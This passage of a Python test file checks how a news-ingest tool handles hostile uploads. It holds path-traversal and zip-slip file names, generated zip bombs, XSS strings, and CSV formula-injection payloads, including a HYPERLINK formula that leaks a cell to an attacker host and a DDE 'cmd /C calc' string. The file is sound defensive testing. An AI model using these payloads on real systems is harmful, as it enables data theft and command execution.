"""Hostile and broken inputs: each gives a specific message naming the file (and line),
nothing valid in the same batch is lost, caps say how to raise them, exports are safe.

The small files live in ``tests/fixtures/hostile/`` (see its README); large ones (a
250 MB file, zip bombs, 10,000 files) are generated here in ``tmp_path``.
"""

from __future__ import annotations

import csv
import importlib
import io
import json
import pkgutil
import struct
import zipfile
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

import natojp.ingest
from natojp.analysis import analyze_uploads
from natojp.cli import main
from natojp.config import AnalysisConfig, IngestConfig
from natojp.errors import ConfigError
from natojp.ingest import (
    MIXED_ENCODING,
    IngestResult,
    decode,
    formats,
    read_paths,
    read_uploads,
    tables,
)
from natojp.models import Skipped
from natojp.report import (
    articles_frame,
    csv_cell,
    csv_safe,
    to_csv_bytes,
    to_dict,
    to_json,
)
from tests import ROOT

HOSTILE = ROOT / "tests" / "fixtures" / "hostile"
FILES = sorted(p.name for p in HOSTILE.iterdir() if p.name != "README.md")
GOOD = "good.txt"
GOOD_TEXT = (HOSTILE / GOOD).read_bytes()
ARTICLE = (
    "Drone talks open\n\nMinisters from NATO and Japan agreed on Tuesday to deepen "
    "cooperation on drones, space and cyber defence, officials said in Brussels.\n"
)


def upload(*names: str) -> IngestResult:
    """Upload fixture files together with the valid ``good.txt``."""
    files = [(n, (HOSTILE / n).read_bytes()) for n in names]
    return read_uploads([*files, (GOOD, GOOD_TEXT)])


def skips(result: IngestResult) -> list[tuple[str, int | None, str]]:
    return [(s.path, s.line, s.reason) for s in result.skipped]


# --------------------------------------------------------------- the fixture corpus


# file → (ids of the documents read, [(line, start of the reason)] of its skips)
EXPECTED: dict[str, tuple[list[str], list[tuple[int | None, str]]]] = {
    "empty.txt": ([], [(None, "empty file (0 bytes)")]),
    "whitespace-only.md": ([], [(None, "empty file (only whitespace)")]),
    "binary-renamed.txt": ([], [(None, "binary file, not text: it looks like a PNG image")]),
    "elf-renamed.md": ([], [(None, "binary file, not text: it looks like an executable (ELF)")]),
    "invalid-utf8.txt": (["invalid-utf8"], []),
    "mixed-encodings.txt": (["mixed-encodings"], []),
    "bom-quoted-newlines.csv": (["bom-quoted-newlines#1", "bom-quoted-newlines#2"], []),
    "missing-text-column.csv": (
        [],
        [
            (
                1,
                "no text column found (columns: 'title', 'date', 'source'); name the one "
                "holding the article text with ColumnMap(text=...) or the CLI option --text-column",
            )
        ],
    ),
    "renamed-extra-columns.csv": (
        ["renamed-extra-columns#1", "renamed-extra-columns#2", "renamed-extra-columns#3"],
        [
            (5, "row 4: empty text in column 'Full_Text'"),
            (
                3,
                "1 row(s) have more cells than the 6 columns of the header (the first: row 2, "
                "line 3); their extra cells were ignored. Is a comma in the text not quoted?",
            ),
        ],
    ),
    "malformed.jsonl": (
        ["malformed#1", "malformed#7"],
        [
            (2, "invalid JSON on line 2, column 29: Unterminated string"),
            (3, "line 3 holds a JSON list, not an object"),
            (5, "line 5: no text (no text key; its keys: 'title')"),
            (6, "line 6 holds a JSON string, not an object"),
            (8, "invalid JSON on line 8, column 41: Expecting property name"),
        ],
    ),
    "deep-nesting.json": ([], [(None, "the JSON is nested too deeply to read")]),
    "deep-nesting.html": (["deep-nesting"], []),
    "script.html": (["script"], []),
    "script-only.html": (
        [],
        [(None, "no article text found in this HTML page (is it an index or script-only page?)")],
    ),
    "xss-title.md": (["xss-title"], []),
    "formula.csv": (["formula#1", "formula#2"], []),
    "reuters-date.sgm": (["reuters-date#1", "reuters-date#2"], []),
    GOOD: ([], []),  # uploaded twice below: read once
}


def test_every_fixture_has_an_expectation_and_a_readme_entry() -> None:
    assert sorted(EXPECTED) == FILES
    readme = (HOSTILE / "README.md").read_text(encoding="utf-8")
    assert all(f"`{name}`" in readme for name in FILES)


@pytest.mark.parametrize("name", FILES)
def test_each_hostile_file_gives_its_message_and_the_batch_goes_on(name: str) -> None:
    result = upload(name)
    ids, expected_skips = EXPECTED[name]
    assert [d.id for d in result.documents] == [*ids, "good"] or name == GOOD
    good = next(d for d in result.documents if d.id == "good")
    assert good.text == GOOD_TEXT.decode()
    got = skips(result)
    if name == GOOD:
        assert got == [(GOOD, None, "uploaded twice (same name and content); read once")]
        return
    assert [(path, line) for path, line, _ in got] == [(name, line) for line, _ in expected_skips]
    for (_, _, reason), (_, start) in zip(got, expected_skips, strict=True):
        assert reason.startswith(start), reason


def test_the_whole_folder_is_read_without_losing_a_valid_article() -> None:
    result = read_paths([HOSTILE])
    expected = sorted(i for ids, _ in EXPECTED.values() for i in ids)
    assert sorted(d.id for d in result.documents) == sorted([*expected, "good", "README"])
    assert all(s.path.startswith("hostile/") for s in result.skipped)
    assert len(result.skipped) == sum(len(s) for _, s in EXPECTED.values())


def test_decoded_text_encodings_and_notes() -> None:
    docs = {d.id: d for d in upload("invalid-utf8.txt", "mixed-encodings.txt").documents}
    latin = docs["invalid-utf8"]
    assert latin.encoding == "cp1252" and "Défense" in latin.text and "15 M£" in latin.text
    mixed = docs["mixed-encodings"]
    assert mixed.encoding == MIXED_ENCODING
    assert "Tōkyō" in mixed.text and "“milestone” for the café" in mixed.text
    assert "Zürich" in mixed.text
    assert mixed.notes == (
        "mixed encodings: the file is UTF-8 but 3 byte(s) are not (the first on line 5); "
        "they were read as Windows-1252 (Latin-1)",
    )


def test_csv_with_bom_crlf_and_quoted_newlines() -> None:
    docs = {d.id: d for d in upload("bom-quoted-newlines.csv").documents}
    first = docs["bom-quoted-newlines#1"]
    assert first.title == "NATO, Japan talk drones" and first.outlet == "Example Times"
    assert first.published == "2025-03-04"
    assert first.text == (
        "First paragraph of the article about drone cooperation.\n\n"
        'Second paragraph, with a "quoted" phrase and a comma.'
    )


def test_renamed_columns_are_found_and_extra_cells_are_noted() -> None:
    docs = {d.id: d for d in upload("renamed-extra-columns.csv").documents}
    row = docs["renamed-extra-columns#2"]
    assert (row.title, row.outlet, row.published) == (
        "Ragged row with extra cells",
        "Example Post",
        "2025-03-05",
    )
    assert row.notes == (
        "row 2 (line 3) has 8 cells but the header has 6; the extra cells were ignored",
    )
    assert docs["renamed-extra-columns#3"].text == "The dialogue covered munitions stockpiles."


def test_unquoted_delimiters_in_a_last_text_column_are_kept() -> None:
    data = b"title,text\nA,Officials said, on Tuesday, that talks would go on.\n"
    (doc,) = read_uploads([("loose.csv", data)]).documents
    assert doc.text == "Officials said, on Tuesday, that talks would go on."
    assert doc.notes and "unquoted commas" in doc.notes[0]


def test_an_unterminated_quote_is_reported_with_its_line() -> None:
    data = b'title,text\nA,"unterminated body\nB,second row\nC,third row\n'
    result = read_uploads([("quote.csv", data)])
    assert [d.id for d in result.documents] == ["quote#1"]
    ((path, line, reason),) = skips(result)
    assert (path, line) == ("quote.csv", 2)
    assert reason.startswith("unterminated quote: the row starting on line 2 runs to the end")


def test_script_html_keeps_only_the_article_text() -> None:
    (doc,) = [d for d in upload("script.html").documents if d.id == "script"]
    assert "NATO and Japan opened talks on drone production" in doc.text
    for trace in ("alert", "<script", "iframe", "onerror", "data:image", "injected by script"):
        assert trace not in doc.text
    assert doc.title == "Drone talks open"


def test_huge_inline_data_in_html_is_read(tmp_path: Path) -> None:
    page = (HOSTILE / "script.html").read_text(encoding="utf-8")
    huge = page.replace("iVBORw0KGgo", "iVBORw0KGgo" * 100)  # ~5 MB of base64
    result = read_uploads([("huge.html", huge.encode())])
    (doc,) = result.documents
    assert "drone production" in doc.text and "iVBOR" not in doc.text


def test_markup_in_titles_and_outlets_is_kept_as_literal_text() -> None:
    analysis = analyze_uploads([(n, (HOSTILE / n).read_bytes()) for n in FILES])
    article = analysis.corpus.by_id("xss-title")
    assert article.title == "<img src=x onerror=alert(1)>"
    assert article.outlet == "<script>alert('outlet')</script> News"
    assert "<b onmouseover=alert(3)>in Brussels</b>" in article.body
    report = json.loads(to_json(analysis))
    titles = {a["id"]: a["title"] for a in report["articles"]}
    assert titles["xss-title"] == "<img src=x onerror=alert(1)>"


def test_reuters_dates_and_an_unreadable_date() -> None:
    analysis = analyze_uploads([("reuters-date.sgm", (HOSTILE / "reuters-date.sgm").read_bytes())])
    good, bad = analysis.articles
    assert good.published is not None and good.published.iso() == "1987-03-31"
    assert good.published_basis == "metadata"
    assert bad.published is None
    assert bad.notes == ("could not read the date '32-FOO-1987 99:99:99.99' of the metadata",)


def test_the_report_lists_every_skipped_input_with_reason_and_line() -> None:
    analysis = analyze_uploads([(n, (HOSTILE / n).read_bytes()) for n in FILES])
    report = to_dict(analysis)
    listed = [(s["path"], s["line"]) for s in report["skipped"]]
    assert ("malformed.jsonl", 8) in listed and ("renamed-extra-columns.csv", 5) in listed
    assert ("binary-renamed.txt", None) in listed
    assert all(set(s) == {"path", "reason", "line"} and s["reason"] for s in report["skipped"])
    assert report["corpus"]["skipped"] == len(report["skipped"]) == len(analysis.corpus.skipped)
    mixed = next(a for a in report["articles"] if a["id"] == "mixed-encodings")
    assert mixed["encoding"] == MIXED_ENCODING and mixed["notes"][0].startswith("mixed encodings")


# ----------------------------------------------------------------------- upload names


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("../../etc/passwd.txt", "passwd.txt"),
        ("/etc/cron.d/evil.md", "evil.md"),
        ("C:\\x\\y.txt", "y.txt"),
        ("..\\..\\boot.ini.txt", "boot.ini.txt"),
        ("a\x00b.txt", "ab.txt"),
        ("nul\x00/../../x.txt", "x.txt"),
        ("\u202etxt.exe.md", "txt.exe.md"),
        ("....//....//z.txt", "z.txt"),
    ],
)
def test_upload_names_never_become_paths(
    raw: str, shown: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    result = read_uploads([(raw, ARTICLE.encode())])
    (doc,) = result.documents
    assert doc.source_path == shown and result.skipped == ()
    assert list(tmp_path.iterdir()) == []  # nothing written where the server runs


def test_hostile_names_without_a_text_suffix_are_skipped_by_their_base_name() -> None:
    result = read_uploads(
        [("../../etc/passwd", b"root:x:0:0"), ("..", b"x"), ("a/b/", ARTICLE.encode())]
    )
    assert result.documents == ()
    assert [(s.path, s.reason.split(";")[0]) for s in result.skipped] == [
        ("passwd", "unsupported file type (no extension)"),
        ("upload", "unsupported file type (no extension)"),
        ("upload", "unsupported file type (no extension)"),
    ]
    assert all(set(s.path) & set("/\\\x00") == set() for s in result.skipped)


def test_duplicate_names_in_one_upload() -> None:
    other = ARTICLE.replace("Tuesday", "Wednesday").encode()
    result = read_uploads(
        [
            ("notes.txt", ARTICLE.encode()),
            ("notes.txt", ARTICLE.encode()),
            ("dir/notes.txt", other),
            ("notes.txt", ARTICLE.replace("Tuesday", "Friday").encode()),
        ]
    )
    assert [(d.id, d.source_path) for d in result.documents] == [
        ("notes", "notes.txt"),
        ("notes~2", "notes.txt"),
        ("notes~3", "notes.txt"),
    ]
    assert result.documents[0].notes == ()
    assert result.documents[1].notes == (
        "another uploaded file is also named 'notes.txt'; this one is upload 2 of that name "
        "and its id has a ~ suffix",
    )
    assert skips(result) == [
        ("notes.txt", None, "uploaded twice (same name and content); read once")
    ]


# ------------------------------------------------------------------ size and count caps


def test_a_250_mb_file_is_skipped_unread_with_how_to_raise_the_cap(tmp_path: Path) -> None:
    big = tmp_path / "big.txt"
    with big.open("wb") as f:  # sparse: no disk space or time used
        f.truncate(250 * 1024 * 1024)
    good = tmp_path / "good.txt"
    good.write_bytes(GOOD_TEXT)
    result = read_paths([big, good])
    assert [d.id for d in result.documents] == ["good"]
    ((path, line, reason),) = skips(result)
    assert (path, line) == (str(big), None)
    assert reason == (
        "file too large: 250 MB, over the cap of 200 MB per file (max_file_bytes); to raise "
        "it when running natojp on your own machine, use the CLI option --max-file-mb or the "
        "environment variable NATOJP_MAX_FILE_MB (in MB), or IngestConfig.max_file_bytes "
        "from Python"
    )


def test_an_upload_over_the_file_cap() -> None:
    config = IngestConfig(max_file_bytes=1024)
    result = read_uploads([("big.txt", b"word " * 1000), (GOOD, GOOD_TEXT)], config)
    assert [d.id for d in result.documents] == ["good"]
    ((path, _, reason),) = skips(result)
    assert path == "big.txt"
    assert reason.startswith("file too large: 4.9 KB, over the cap of 1 KB per file")
    assert "NATOJP_MAX_FILE_MB" in reason


def test_total_bytes_cap_stops_the_batch_and_names_what_was_not_read() -> None:
    config = IngestConfig(max_total_bytes=len(GOOD_TEXT) * 2 + 10)
    files = [(f"{i}.txt", GOOD_TEXT.replace(b"Tuesday", f"day {i}".encode())) for i in range(5)]
    result = read_uploads(files, config)
    assert [d.id for d in result.documents] == ["0", "1"]
    ((path, _, reason),) = skips(result)
    assert path == "2.txt"
    assert reason.startswith(
        f"stopped at the cap of {config.max_total_bytes} bytes read per batch (max_total_bytes): "
        "this file and 2 "
        "more file(s) were not read; to raise it"
    )
    assert "--max-total-mb" in reason and "NATOJP_MAX_TOTAL_MB" in reason
    # Members of an archive and files of a folder count too.
    archive = _zip({f"news/{name}": data for name, data in files})
    result = read_uploads([("pack.zip", archive)], config)
    assert [d.id for d in result.documents] == ["0", "1"]
    assert result.skipped[0].path == "pack.zip!news/2.txt"
    assert "this file and 2 more file(s)" in result.skipped[0].reason


def test_text_cap_counts_memory_not_characters() -> None:
    """A text with one character beyond U+FFFF is held at 4 bytes a character: the cap
    on text held stops reading where memory, not the character count, runs out."""
    plain = [(f"p{i}.txt", ("word " * 400).encode()) for i in range(6)]
    wide = [(f"w{i}.txt", ("word " * 400 + "\U0001f680").encode()) for i in range(6)]
    config = IngestConfig(max_text_bytes=6 * 2_100)  # six ASCII texts of 2,000 characters
    assert len(read_uploads(plain, config).documents) == 6
    result = read_uploads(wide, config)
    assert [d.id for d in result.documents] == ["w0"]  # 8 KB each: one fits
    ((path, _, reason),) = skips(result)
    assert path == "w1.txt"
    assert reason.startswith(
        "stopped at the cap of 12.3 KB of article text held in memory (max_text_bytes) "
        "after 1 article; a text takes 1, 2 or 4 bytes a character"
    )
    assert "the rest of this file and 4 more file(s) were not read" in reason
    assert "--max-text-mb" in reason and "NATOJP_MAX_TEXT_MB" in reason


def test_total_bytes_cap_in_a_folder(tmp_path: Path) -> None:
    for i in range(4):
        (tmp_path / f"{i}.txt").write_bytes(GOOD_TEXT)
    result = read_paths([tmp_path], IngestConfig(max_total_bytes=len(GOOD_TEXT) * 3))
    assert [d.id for d in result.documents] == ["0", "1", "2"]
    ((path, _, reason),) = skips(result)
    assert path.endswith("/3.txt") and "this file and 0 more file(s)" in reason


def test_ten_thousand_tiny_files_and_the_article_cap() -> None:
    files = [(f"t{i:05}.txt", f"Tiny story {i} about drones.".encode()) for i in range(10_000)]
    assert len(read_uploads(files).documents) == 10_000
    result = read_uploads(files, IngestConfig(max_articles=2_500))
    assert len(result.documents) == 2_500
    ((path, _, reason),) = skips(result)
    assert path == "t02500.txt"
    assert reason == (
        "stopped at the cap of 2,500 articles (max_articles): the rest of this file and "
        "7,499 more file(s) were not read; to raise it when running natojp on your own "
        "machine, use the CLI option --max-articles or the environment variable "
        "NATOJP_MAX_ARTICLES, or IngestConfig.max_articles from Python"
    )


def test_an_article_over_the_length_cap_is_truncated_and_reported() -> None:
    paragraph = "Officials discussed drones and munitions supply chains in Brussels.\n"
    text = "Long story\n\n" + paragraph * 100  # 6,812 characters, 102 lines
    config = IngestConfig(max_article_chars=1_000)
    result = read_uploads([("long.txt", text.encode()), (GOOD, GOOD_TEXT)], config)
    long, good = result.documents
    assert good.text == GOOD_TEXT.decode()
    assert len(long.text) <= 1_000 and long.text.endswith("Brussels.")
    assert text.startswith(long.text)
    ((path, line, reason),) = skips(result)
    assert (path, line) == ("long.txt", 17)
    assert reason.startswith(
        f"article 'long' truncated: {len(text):,} characters, over the cap of 1,000 "
        f"(max_article_chars); only the first {len(long.text):,} were analysed, the rest "
        "(from line 17) was not; to raise it"
    )
    assert "--max-article-chars" in reason and "NATOJP_MAX_ARTICLE_CHARS" in reason
    assert long.notes == (reason,)


def test_a_long_csv_cell_is_truncated_with_its_row_id() -> None:
    data = b"title,text\nA," + b"word " * 500 + b"\nB,short text\n"
    result = read_uploads([("rows.csv", data)], IngestConfig(max_article_chars=100))
    assert [len(d.text) <= 100 for d in result.documents] == [True, True]
    ((path, line, reason),) = skips(result)
    assert (path, line) == ("rows.csv", None)
    assert reason.startswith("article 'rows#1' truncated: 2,499 characters")


def test_caps_from_the_environment() -> None:
    env = {
        "NATOJP_MAX_FILE_MB": "0.5",
        "NATOJP_MAX_TOTAL_MB": "2",
        "NATOJP_MAX_ARTICLES": "1_000",
        "NATOJP_MAX_ARTICLE_CHARS": "50,000",
        "NATOJP_MAX_ARCHIVE_FILES": "10",
        "NATOJP_MAX_ARCHIVE_MB": "3",
        "NATOJP_MAX_HTML_MB": "1.5",
        "NATOJP_MAX_HTML_ELEMENTS": "20,000",
    }
    config = IngestConfig.from_env(env)
    assert (config.max_html_bytes, config.max_html_elements) == (1536 * 1024, 20_000)
    assert config.max_file_bytes == 512 * 1024 and config.max_total_bytes == 2 * 1024 * 1024
    assert (config.max_articles, config.max_article_chars) == (1_000, 50_000)
    assert (config.max_archive_members, config.max_archive_bytes) == (10, 3 * 1024 * 1024)
    assert IngestConfig.from_env({}) == IngestConfig()
    assert IngestConfig.from_env(env, max_articles=7).max_articles == 7
    for bad in ("-1", "0", "lots", "1.5", "nan"):
        with pytest.raises(ConfigError, match="NATOJP_MAX_ARTICLES must be a positive whole"):
            IngestConfig.from_env({"NATOJP_MAX_ARTICLES": bad})
    with pytest.raises(ConfigError, match="max_articles must be a positive"):
        IngestConfig(max_articles=0)


def test_cli_cap_options_and_environment(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    for i in range(3):
        (tmp_path / f"{i}.txt").write_text(ARTICLE.replace("Tuesday", f"day {i}"), "utf-8")
    out = tmp_path / "r.json"
    monkeypatch.setenv("NATOJP_MAX_ARTICLES", "1")
    assert main(["analyze", str(tmp_path), "-o", str(out), "-q"]) == 0
    report = json.loads(out.read_text(encoding="utf-8"))
    assert len(report["articles"]) == 1 and "NATOJP_MAX_ARTICLES" in report["skipped"][0]["reason"]
    assert main(["analyze", str(tmp_path), "-o", str(out), "-q", "--max-articles", "2"]) == 0
    assert len(json.loads(out.read_text(encoding="utf-8"))["articles"]) == 2
    assert main(["analyze", str(tmp_path), "-q", "--max-article-chars", "0"]) == 2
    assert "--max-article-chars must be positive" in capsys.readouterr().err
    monkeypatch.setenv("NATOJP_MAX_ARTICLES", "many")
    assert main(["analyze", str(tmp_path), "-q"]) == 2
    assert "NATOJP_MAX_ARTICLES must be a positive whole number" in capsys.readouterr().err


# ---------------------------------------------------------------------------- archives


def _zip(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def _claim_size(archive: bytes, size: int) -> bytes:
    """The archive with every central-directory entry claiming ``size`` unpacked bytes."""
    data = bytearray(archive)
    pos = data.find(b"PK\x01\x02")
    while pos != -1:
        struct.pack_into("<I", data, pos + 24, size)
        pos = data.find(b"PK\x01\x02", pos + 4)
    return bytes(data)


def test_zip_bombs_are_not_unpacked() -> None:
    zeros = _zip({"zeros.txt": b"\x00" * (20 * 1024 * 1024)})
    assert len(zeros) < 100_000
    claims_4gb = _claim_size(_zip({"a.txt": ARTICLE.encode()}), 0xFFFFFFF0)
    nested = _zip({"inner.zip": zeros, "ok.txt": ARTICLE.encode()})
    result = read_uploads(
        [
            ("zeros.zip", zeros),
            ("claims.zip", claims_4gb),
            ("nested.zip", nested),
            (GOOD, GOOD_TEXT),
        ],
        IngestConfig(max_archive_bytes=10 * 1024 * 1024),
    )
    assert [d.id for d in result.documents] == ["ok", "good"]
    assert [(p, r.split(";")[0]) for p, _, r in skips(result)] == [
        ("zeros.zip", "archive unpacks to 20 MB, over the cap of 10 MB (max_archive_bytes"),
        ("claims.zip", "archive unpacks to 4,096 MB, over the cap of 10 MB (max_archive_bytes"),
        ("nested.zip!inner.zip", "archive inside an archive not read"),
    ]
    assert "NATOJP_MAX_ARCHIVE_MB" in result.skipped[0].reason
    # With the default caps the 4 GB claim is refused from the directory alone.
    default = read_uploads([("claims.zip", claims_4gb)])
    assert default.documents == () and "a zip bomb?" in default.skipped[0].reason


def test_a_zip_of_ten_thousand_files_over_the_member_cap() -> None:
    archive = _zip({f"t/{i:05}.txt": f"Tiny story {i}.".encode() for i in range(10_000)})
    result = read_uploads([("many.zip", archive)], IngestConfig(max_archive_members=5_000))
    assert result.documents == ()
    ((path, _, reason),) = skips(result)
    assert path == "many.zip"
    assert reason.startswith("archive has 10,000 files, over the cap of 5,000")
    assert "NATOJP_MAX_ARCHIVE_FILES" in reason
    assert len(read_uploads([("many.zip", archive)]).documents) == 10_000


# ------------------------------------------------------------------- formula injection


def test_formula_cells_are_neutralised_in_csv_exports() -> None:
    analysis = analyze_uploads([("formula.csv", (HOSTILE / "formula.csv").read_bytes())])
    frame = articles_frame(analysis)
    assert frame["title"].tolist()[0].startswith("=HYPERLINK")  # the data stays as it was
    rows = list(csv.DictReader(io.StringIO(to_csv_bytes(frame).decode("utf-8"))))
    assert [r["title"] for r in rows] == [
        '\'=HYPERLINK("http://attacker.invalid/?leak="&A1;"Click")',
        "'-2+3",
    ]
    assert [r["outlet"] for r in rows] == ["'+cmd|' /C calc'!A0", "'@evil"]
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value


def test_csv_safe_keeps_numbers_and_other_types() -> None:
    frame = pd.DataFrame(
        {
            "text": ["=1+1", "-0.5", "+44", "@x", "\tTab", "\rCR", "plain", None, "-", "-2+3"],
            "score": [-0.5, 1.0, -2.0, 0.0, 3.5, -1e-9, 2.0, 0.1, -7.0, 1.0],
            "count": list(range(-5, 5)),
            "flag": [True, False] * 5,
        }
    )
    safe = csv_safe(frame)
    assert pd.isna(safe["text"].iloc[7])  # missing stays missing
    assert safe["text"].drop(index=7).tolist() == [
        "'=1+1",
        "-0.5",
        "+44",
        "'@x",
        "'\tTab",
        "'\rCR",
        "plain",
        "'-",
        "'-2+3",
    ]
    pd.testing.assert_frame_equal(
        safe[["score", "count", "flag"]], frame[["score", "count", "flag"]]
    )
    assert frame["text"].iloc[0] == "=1+1"  # the input is not modified
    assert csv_cell(-3) == -3 and csv_cell("=cmd") == "'=cmd"
    assert list(csv_safe(pd.DataFrame(columns=["=evil", "ok"])).columns) == ["'=evil", "ok"]
    text = to_csv_bytes(frame).decode("utf-8")
    assert text.splitlines()[0] == "text,score,count,flag" and "\n-0.5,1.0,-4,False" in text


def test_no_fixture_file_writes_outside_memory(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    before = set(tmp_path.iterdir())
    analysis = analyze_uploads(
        [(f"../../{n}", (HOSTILE / n).read_bytes()) for n in FILES],
        AnalysisConfig(),
    )
    assert set(tmp_path.iterdir()) == before
    assert len(analysis.articles) == sum(len(ids) for ids, _ in EXPECTED.values()) + 1
    assert not any(isinstance(s, Skipped) and "/" in s.path for s in analysis.corpus.skipped)


def test_zip_slip_member_names_never_become_paths(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    archive = _zip(
        {
            "../../evil.txt": ARTICLE.encode(),
            "/etc/cron.d/job.txt": ARTICLE.replace("Tuesday", "Monday").encode(),
            "C:\\win\\y.txt": ARTICLE.replace("Tuesday", "Friday").encode(),
        }
    )
    result = read_uploads([("slip.zip", archive)])
    assert sorted(d.id for d in result.documents) == ["etc/cron.d/job", "evil", "win/y"]
    assert all(".." not in d.id.split("/") and not d.id.startswith("/") for d in result.documents)
    assert result.skipped == ()
    assert list(tmp_path.iterdir()) == []


# ------------------------------------------------ memory: cut while reading, not after
# (memory itself is measured by ``python -m bench.memory``; these test the behaviour)


def _csv_cells(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """Record the length of the longest cell of every row the csv module builds (its
    field buffer holds that much) and of every item it is given."""
    lengths: list[int] = []
    reader = csv.reader

    def fed(lines: Iterable[str]) -> Iterator[str]:
        for line in lines:
            lengths.append(len(line))
            yield line

    class Spy:
        def __init__(self, lines: Iterable[str], **kwargs: Any) -> None:
            self._reader = reader(fed(lines), **kwargs)

        def __iter__(self) -> Spy:
            return self

        def __next__(self) -> list[str]:
            row = next(self._reader)
            lengths.append(max(map(len, row), default=0))
            return row

        @property
        def line_num(self) -> int:
            return self._reader.line_num

    monkeypatch.setattr(tables.csv, "reader", Spy)
    return lengths


def test_a_huge_csv_cell_is_cut_while_read(monkeypatch: pytest.MonkeyPatch) -> None:
    lengths = _csv_cells(monkeypatch)
    cell = ("Officials discussed drones.\n" * 40_000).rstrip()  # 1,119,999 characters, 40,000 lines
    data = f'id,text,title\n1,"{cell}",Huge\n2,"Short ""quoted"" text",Small\n3,,Empty\n'.encode()
    config = IngestConfig(max_article_chars=1_000)
    result = read_uploads([("big.csv", data)], config)
    big, small = result.documents
    assert (big.id, big.title, small.id, small.text) == (
        "big#1",
        "Huge",
        "big#2",
        'Short "quoted" text',
    )
    assert cell.startswith(big.text) and len(big.text) <= 1_000
    assert max(lengths) < 10_000  # never the whole cell
    truncated, empty = skips(result)
    assert truncated[2].startswith(f"article 'big#1' truncated: {len(cell):,} characters")
    assert empty == ("big.csv", 40_003, "row 3: empty text in column 'text'")


def test_a_huge_csv_cell_in_a_small_zip(monkeypatch: pytest.MonkeyPatch) -> None:
    lengths = _csv_cells(monkeypatch)
    cell = "word " * 400_000  # 2 MB of text in a 6 KB archive
    archive = _zip({"news/cell.csv": f'id,text\n1,"{cell}"\n2,next row\n'.encode()})
    assert len(archive) < 10_000
    result = read_uploads([("cell.zip", archive)], IngestConfig(max_article_chars=500))
    assert [d.id for d in result.documents] == ["cell#1", "cell#2"]
    assert result.documents[1].text == "next row"
    assert max(lengths) < 10_000
    ((path, _, reason),) = skips(result)
    assert path == "cell.zip!news/cell.csv"
    assert reason.startswith(f"article 'cell#1' truncated: {len(cell.strip()):,} characters")


def test_an_unterminated_quote_in_a_huge_cell_is_reported_with_its_line() -> None:
    data = b'title,text\nA,short\nB,"never closed\n' + b"more text\n" * 5_000
    result = read_uploads([("open.csv", data)], IngestConfig(max_article_chars=100))
    assert [d.id for d in result.documents] == ["open#1", "open#2"]
    truncated, unterminated = skips(result)
    assert truncated[2].startswith("article 'open#2' truncated: 50,012 characters")
    assert unterminated[1:] == (
        3,
        "unterminated quote: the row starting on line 3 runs to the end of the file (line "
        "5003), so any rows after it were read as its text; check the quotes on line 3",
    )


def test_a_jsonl_line_over_the_limit_is_skipped_and_the_next_lines_are_read() -> None:
    config = IngestConfig(max_article_chars=100)
    limit = 16 * 100 + 65_536
    long_line = json.dumps({"text": "x" * (limit + 10)})
    lines = [json.dumps({"text": "first"}), long_line, json.dumps({"text": "third"})]
    result = read_uploads([("feed.jsonl", "\n".join(lines).encode())], config)
    assert [d.id for d in result.documents] == ["feed#1", "feed#3"]
    ((path, line, reason),) = skips(result)
    assert (path, line) == ("feed.jsonl", 2)
    assert reason.startswith(
        f"line 2 is too long to read: {len(long_line):,} characters, over the limit of "
        f"{limit:,} (16 × max_article_chars); it was not read; to raise it"
    )
    assert "NATOJP_MAX_ARTICLE_CHARS" in reason


def test_a_large_json_file_is_read_item_by_item() -> None:
    config = IngestConfig(max_article_chars=100)
    limit = 16 * 100 + 65_536
    items = [{"text": f"story {i} " + "word " * 10} for i in range(2_000)]
    items[5] = {"text": "y" * (limit + 1)}  # one item over the limit
    items[7] = 42  # type: ignore[assignment]
    data = json.dumps({"status": "ok", "articles": items}, indent=1).encode()
    assert len(data) > limit  # read by the streaming reader
    result = read_uploads([("big.json", data)], config)
    assert len(result.documents) == 1_998
    assert result.documents[0].text == items[0]["text"].strip()
    assert [(s.line, s.reason.split(":")[0]) for s in result.skipped] == [
        (None, "item 6 is too long to read"),
        (None, "item 8 is a JSON number, not an object"),
    ]
    broken = data.replace(b'"story 1999', b'"story 1999" 7', 1)
    ((path, line, reason),) = skips(read_uploads([("bad.json", broken)], config))
    assert path == "bad.json" and line is not None and line > 5_000
    assert reason.startswith(f"invalid JSON on line {line}, column ")
    assert reason.endswith("Expecting ',' delimiter")


def test_a_reuters_story_over_the_limit_is_skipped() -> None:
    config = IngestConfig(max_article_chars=100)
    limit = 16 * 100 + 65_536
    huge = "<BODY>" + "Huge body text.\n" * (limit // 16 + 10) + "</BODY>"
    data = (
        f'<REUTERS NEWID="7">{huge}</REUTERS>\n'
        '<REUTERS NEWID="8"><BODY>The next story.\n</BODY></REUTERS>\n'
    ).encode()
    result = read_uploads([("r.sgm", data)], config)
    assert [(d.id, d.text) for d in result.documents] == [("r#8", "The next story.")]
    ((path, _, reason),) = skips(result)
    assert path == "r.sgm"
    assert reason.startswith(f"story 1 (NEWID 7) is too long to read: {len(huge):,} characters")


def test_an_html_page_over_the_html_caps_is_skipped_with_how_to_raise_them() -> None:
    page = b"<html><body>" + b"<p>Talks on drones went on.</p>" * 40_000 + b"</body></html>"
    result = read_uploads([("big.html", page), (GOOD, GOOD_TEXT)])
    assert [d.id for d in result.documents] == ["big", "good"]
    small = IngestConfig(max_html_bytes=1024 * 1024)
    ((_, _, reason),) = skips(read_uploads([("big.html", page)], small))
    assert reason == (
        "HTML page too large to extract its text: 1.2 MB, over the cap of 1 MB per page "
        "(max_html_bytes); to raise it when running natojp on your own machine, use the "
        "CLI option --max-html-mb or the environment variable NATOJP_MAX_HTML_MB (in MB), "
        "or IngestConfig.max_html_bytes from Python"
    )
    few = IngestConfig(max_html_elements=10_000)
    ((_, _, reason),) = skips(read_uploads([("big.html", page)], few))
    assert reason.startswith(
